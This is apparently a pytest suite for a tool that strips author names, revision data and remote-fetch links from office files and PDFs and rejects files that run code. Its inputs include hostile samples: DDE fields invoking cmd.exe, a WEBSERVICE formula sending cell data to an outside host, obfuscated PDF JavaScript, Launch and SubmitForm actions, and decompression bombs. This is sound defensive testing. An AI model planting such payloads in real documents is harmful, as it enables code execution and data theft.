"""What office files and PDFs tell beside their text, and what they would fetch when a reader opens them."""

import io
import re
import struct
import zipfile
import zlib

import pytest

from kurak.ground.errors import Refused
from kurak.ground.files import pdf
from kurak.ground.files.cleaning import cleaned
from kurak.ground.files.inspecting import KINDS, kind_of
from tests.factories.files import DOCX, ODT, PDF, SECRETS, XLSX, a_jpeg, an_archive_of

HOME = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TELLING = {
    "docx": {
        **DOCX,
        "word/document.xml": b'<w:p w:rsidR="00A1B2C3"><w:ins w:id="1" w:author="Aigul" w:date="2026-01-02T03:04:05Z">x'
        b'</w:ins><w:instrText> INCLUDEPICTURE "http://Aigul.example/a.png" </w:instrText></w:p>',
        "word/comments.xml": b'<w:comment w:id="0" w:author="Aigul" w:initials="Aigul" w:date="2026-01-02T03:04:05Z"/>',
        "word/people.xml": b'<w15:person w15:author="Aigul"><w15:presenceInfo w15:userId="S::Aigul"/></w15:person>',
        "word/settings.xml": b'<w:settings><w:rsids><w:rsid w:val="00A1B2C3"/></w:rsids></w:settings>',
        "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="' + HOME + b'/attachedTemplate" '
        b'Target="file:///C:/Users/Aigul/a.dotm" TargetMode="External"/></Relationships>',
        "word/_rels/document.xml.rels": b'<Relationships><Relationship Id="r1" Type="' + HOME + b'/image" '
        b'Target="https://Aigul.example/b.png" TargetMode="External"/><Relationship Id="r2" Type="' + HOME
        + b'/hyperlink" Target="https://example.org/law" TargetMode="External"/></Relationships>',
    },
    "xlsx": {
        **XLSX,
        "xl/workbook.xml": b'<workbook><x15ac:absPath url="C:\\Users\\Aigul\\"/>'
        b'<fileSharing userName="Aigul"/></workbook>',
        "xl/comments1.xml": b"<comments><authors><author>Aigul</author></authors></comments>",
        "xl/persons/person.xml": b'<person displayName="Aigul" userId="Aigul@example.org"/>',
    },
    "odt": {
        **ODT,
        "content.xml": b"<office:annotation><dc:creator>Aigul</dc:creator></office:annotation>"
        b'<draw:image xlink:href="https://Aigul.example/a.png"/><draw:image xlink:href="Pictures/a.png"/>'
        b'<draw:a xlink:href="https://example.org/law"/>',
    },
}  # fmt: skip


def inside(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


@pytest.mark.parametrize("code", TELLING)
def test_no_name_stays_beside_remarks_and_changes_and_nothing_is_fetched(code):
    clean = inside(cleaned(an_archive_of(TELLING[code]), KINDS[code]))
    told = {name: body for name, body in clean.items() if b"Aigul" in body or b"00A1B2C3" in body or b"03:04" in body}
    assert not told
    assert list(clean) == list(TELLING[code])


def test_links_and_pictures_inside_stay():
    word = inside(cleaned(an_archive_of(TELLING["docx"]), KINDS["docx"]))
    assert b"https://example.org/law" in word["word/_rels/document.xml.rels"]
    text = inside(cleaned(an_archive_of(TELLING["odt"]), KINDS["odt"]))["content.xml"]
    assert b'"Pictures/a.png"' in text
    assert b'<draw:a xlink:href="https://example.org/law"/>' in text


@pytest.mark.parametrize(
    ("code", "name", "body"),
    [
        ("docx", "word/document.xml", b"<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"),
        ("xlsx", "xl/worksheets/sheet1.xml", b'<c r="A1"><f>WEBSERVICE("https://x.example/"&amp;B1)</f></c>'),
        ("xlsx", "xl/externalLinks/externalLink1.xml", b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
        ("docx", "word/document.xml", b'<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>'),
    ],
)
def test_what_acts_or_calls_by_itself_is_refused(code, name, body):
    parts = {"docx": DOCX, "xlsx": XLSX}[code]
    with pytest.raises(Refused, match="holds programs"):
        cleaned(an_archive_of({**parts, name: body}), KINDS[code])


@pytest.mark.parametrize("method", [zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2, 99])
def test_an_archive_packed_in_a_way_of_its_own_is_refused_in_words(method):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_LZMA if method == 99 else method) as packed:
        for name, body in DOCX.items():
            packed.writestr(name, body * 40)
    data = bytearray(made.getvalue())
    for found in re.finditer(b"PK\x03\x04", bytes(data)):
        start = found.start() + 30 + sum(struct.unpack_from("<HH", data, found.start() + 26)) + 8
        data[start : start + 6] = b"\xff" * 6
        if method == 99:
            struct.pack_into("<H", data, found.start() + 8, 99)
    for found in re.finditer(b"PK\x01\x02", bytes(data)) if method == 99 else ():
        struct.pack_into("<H", data, found.start() + 10, 99)
    with pytest.raises(Refused, match="broken"):
        cleaned(bytes(data), kind_of(bytes(data)))


def an_object(body: bytes, head: bytes = b"/Type /ObjStm") -> bytes:
    packed = zlib.compress(body)
    return b"7 0 obj <<" + head + b" /Filter /FlateDecode /Length %d>> stream\n%b\nendstream endobj\n" % (
        len(packed), packed,
    )  # fmt: skip


TELLING_PDF = PDF.replace(
    b"trailer",
    b"2 0 obj <</Author (Aigul \\) B.(x)) /Creator <4169676C> /Title (Report) /CreationDate (D:20260102)>> endobj\n"
    b'<?xpacket begin="" id="W5"?><x:xmpmeta>Aigul</x:xmpmeta><?xpacket end="w"?>\n'
    + an_object(b"<</Author (Aigul Aigul Aigul Aigul) /Title (Report)>>")
    + b"8 0 obj <</Subtype /Image>> stream\n" + a_jpeg().removesuffix(SECRETS[3]) + b"\nendstream endobj\ntrailer",
)  # fmt: skip


def test_a_pdf_loses_the_names_of_its_makers_and_no_byte_moves():
    clean = cleaned(TELLING_PDF, KINDS["pdf"])
    assert len(clean) == len(TELLING_PDF)
    assert not [word for word in (b"Aigul", b"4169676C", b"D:2026", SECRETS[0], SECRETS[2]) if word in clean]
    assert [body for _at, _to, body in pdf.unpacked(clean)] == [
        b"<</Author (                       ) /Title (Report)>>"
    ]
    assert b"/Title (Report)" in clean
    assert kind_of(clean) == KINDS["pdf"]
    assert cleaned(clean, KINDS["pdf"]) == clean


@pytest.mark.parametrize(
    "body",
    [
        b"9 0 obj <</S /J#61vaScript /JS (app.alert)>> endobj\n",
        b"9 0 obj <</S/Launch/F(a.exe)>> endobj\n",
        an_object(b"9 0 <</S /JavaScript /JS (app.alert)>>"),
        b"9 0 obj <</S /SubmitForm /F (https://x.example)>> endobj\n",
    ],
)
def test_a_pdf_that_acts_is_refused_however_it_is_spelt_or_packed(body):
    with pytest.raises(Refused, match="holds programs"):
        kind_of(PDF.replace(b"trailer", body + b"trailer"))


def test_a_locked_pdf_is_refused():
    with pytest.raises(Refused, match="password"):
        kind_of(PDF.replace(b"/Root", b"/Encrypt 5 0 R /Root"))


def test_a_pdf_with_nothing_to_tell_stays_as_it_is():
    assert cleaned(PDF, KINDS["pdf"]) == PDF


def test_real_files_still_open_after_cleaning():
    import docx
    import typst
    import xlsxwriter
    from python_calamine import CalamineWorkbook

    made = io.BytesIO()
    letter = docx.Document()
    letter.core_properties.author = "Aigul"
    letter.add_paragraph("Report")
    letter.save(made)
    clean = cleaned(made.getvalue(), kind_of(made.getvalue()))
    assert [each.text for each in docx.Document(io.BytesIO(clean)).paragraphs] == ["Report"]

    made = io.BytesIO()
    with xlsxwriter.Workbook(made) as book:
        page = book.add_worksheet("a")
        page.write("A1", 12)
        page.write_comment("A1", "seen", {"author": "Aigul"})
    clean = cleaned(made.getvalue(), kind_of(made.getvalue()))
    assert CalamineWorkbook.from_filelike(io.BytesIO(clean)).get_sheet_by_index(0).to_python() == [[12.0]]
    assert not any(b"Aigul" in body for body in inside(clean).values())

    paper = typst.compile(b'#set document(title: "Report", author: "Aigul")\n= Report')
    clean = cleaned(paper, kind_of(paper))
    assert (b"Aigul" in paper, b"Aigul" in clean, len(clean)) == (True, False, len(paper))


@pytest.mark.parametrize(
    "word",
    [b"<?xpacket begin", b"<x:xmpmeta ", b"/ObjStm obj /ObjStm stream\n", b"/Author <<", b"/Author (", b"/Author <4"],
)
def test_a_pdf_that_begins_over_and_over_takes_no_longer(word):
    """Each search goes on where the last one ended: else this runs for hours."""
    data = PDF.replace(b"trailer", word * (1_500_000 // len(word)) + b"trailer")
    assert len(cleaned(data, kind_of(data))) == len(data)


@pytest.mark.parametrize("word", [b"<w:rsids>", b"<w:instrText ", b"<x:absPath ", b"<draw:a1 "])
def test_an_office_file_that_begins_over_and_over_takes_no_longer(word):
    for name in ("word/document.xml", "content.xml"):
        data = an_archive_of({**DOCX, name: word * (1_500_000 // len(word))})
        assert kind_of(cleaned(data, KINDS["docx"])) == KINDS["docx"]


def test_a_pdf_that_unpacks_to_far_more_is_refused():
    data = PDF.replace(b"trailer", an_object(bytes(30_000_000)) * 2 + b"trailer")
    with pytest.raises(Refused, match="unpacks"):
        kind_of(data)
